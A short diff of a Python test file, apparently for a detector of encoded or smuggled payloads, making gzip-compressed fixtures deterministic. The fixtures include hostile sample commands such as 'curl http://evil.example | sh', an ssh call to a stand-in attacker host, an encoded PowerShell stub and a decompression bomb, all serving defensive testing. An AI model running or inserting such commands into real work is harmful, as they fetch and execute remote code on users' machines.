@@ -101,8 +101,8 @@ SMUGGLED = [
     (b64("powershell -enc x".encode("utf-16-le")), "base64"),
     (b64(b"\x7fELF" + bytes(40)), "elf"),
     (b64(b"MZ\x90\x00" + bytes(range(60))), "pe"),
-    (b64(gzip.compress(b"curl http://evil.example | sh")), "gzip"),
-    (b64(gzip.compress(b"ssh root@evil.example id")), "ssh_destination"),
+    (b64(gzip.compress(b"curl http://evil.example | sh", mtime=0)), "gzip"),
+    (b64(gzip.compress(b"ssh root@evil.example id", mtime=0)), "ssh_destination"),
     (b64(b"\x89PNG\r\n\x1a\n" + bytes(40)), "png"),
     ((b"\x7fELF" + bytes(40)).hex(), "elf"),
     (b"curl http://evil.example".hex(), "hex"),
@@ -408,7 +408,7 @@ def test_many_small_findings_crowd_out_no_grave_one():
 
 
 def test_a_bomb_is_inflated_no_further_than_the_bound():
-    bomb = b64(gzip.compress(b"a" * 30_000_000))
+    bomb = b64(gzip.compress(b"a" * 30_000_000, mtime=0))
     found("warm")
     tracemalloc.start()
     try:
